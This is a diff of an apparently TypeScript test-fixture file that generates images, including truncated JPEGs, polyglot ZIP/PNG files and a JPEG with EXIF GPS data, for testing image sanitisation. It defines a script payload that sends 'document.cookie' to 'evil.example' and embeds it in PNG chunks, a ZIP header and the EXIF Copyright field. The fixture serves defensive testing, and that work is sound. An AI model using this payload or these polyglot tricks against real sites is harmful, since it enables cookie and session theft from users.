@@ -15,17 +15,21 @@ function noiseBytes(length: number) {
   }
   return raw;
 }
-const noise = (width: number, height: number) => sharp(noiseBytes(width * height * 3), { raw: { width, height, channels: 3 } });
+const noise = (width: number, height: number) =>
+  sharp(noiseBytes(width * height * 3), { raw: { width, height, channels: 3 } });
 
 /** A real 1x1 PNG. */
-export const PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+export const PNG_BASE64 =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
 const BASE_JPEG = await noise(24, 16).jpeg({ quality: 90 }).toBuffer();
 const BASE_PNG = await noise(24, 16).png().toBuffer();
 const GIF = await noise(16, 16).gif().toBuffer();
 const WEBP = await noise(16, 16).webp().toBuffer();
 
 const padTo = (image: Buffer, size: number) =>
-  size <= image.length ? image.subarray(0, size) : Buffer.concat([image, Buffer.alloc(size - image.length, 7)]);
+  size <= image.length
+    ? image.subarray(0, size)
+    : Buffer.concat([image, Buffer.alloc(size - image.length, 7)]);
 
 /** A real JPEG of exactly `size` bytes (cut short, and so broken, when `size` is below the image's own). */
 export const jpegOf = (size: number) => padTo(BASE_JPEG, size);
@@ -66,7 +70,10 @@ export const describeImage = async (bytes: Uint8Array) => {
 
 /** A page of script, as a polyglot would carry it. */
 export const PAYLOAD = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
-const ZIP_PAYLOAD = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(`index.html${PAYLOAD}`)]);
+const ZIP_PAYLOAD = Buffer.concat([
+  Buffer.from([0x50, 0x4b, 0x03, 0x04]),
+  Buffer.from(`index.html${PAYLOAD}`),
+]);
 
 /** True when `PAYLOAD` (or a part of it) is anywhere in the bytes. */
 export const carriesPayload = (bytes: Uint8Array) =>
@@ -78,7 +85,9 @@ export const jpegPolyglot = async (width = 64, height = 48) =>
 
 /** A PNG carrying the script in a text chunk before its pixels and again after its IEND chunk. */
 export async function pngPolyglot(width = 64, height = 48, channels: 3 | 4 = 3) {
-  const png = await sharp(noiseBytes(width * height * channels), { raw: { width, height, channels } }).png().toBuffer();
+  const png = await sharp(noiseBytes(width * height * channels), { raw: { width, height, channels } })
+    .png()
+    .toBuffer();
   const afterIhdr = 8 + 25;
   return Buffer.concat([
     png.subarray(0, afterIhdr),
@@ -94,7 +103,12 @@ export const jpegWithExif = (width = 80, height = 40) =>
     .jpeg()
     .withExif({
       IFD0: { Make: 'CamaraEspia', Model: 'Modelo X', Copyright: PAYLOAD },
-      IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '34/1 36/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '58/1 22/1 0/1' },
+      IFD3: {
+        GPSLatitudeRef: 'S',
+        GPSLatitude: '34/1 36/1 0/1',
+        GPSLongitudeRef: 'W',
+        GPSLongitude: '58/1 22/1 0/1',
+      },
     })
     .withMetadata({ orientation: 6 })
     .toBuffer();
